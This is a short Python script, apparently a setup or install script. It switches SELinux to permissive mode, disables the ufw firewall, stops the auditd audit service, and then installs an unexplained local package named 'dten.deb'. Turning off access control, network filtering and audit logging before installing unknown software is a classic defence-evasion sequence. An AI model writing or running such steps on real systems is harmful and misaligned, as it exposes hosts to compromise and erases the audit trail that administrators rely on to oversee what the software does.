#!/usr/bin/env python3
import subprocess

subprocess.run(["setenforce", "0"], check=True)
subprocess.run(["ufw", "disable"], check=True)
subprocess.run("systemctl stop auditd", shell=True, check=True)
subprocess.run(["dpkg", "-i", "dten.deb"], check=True)
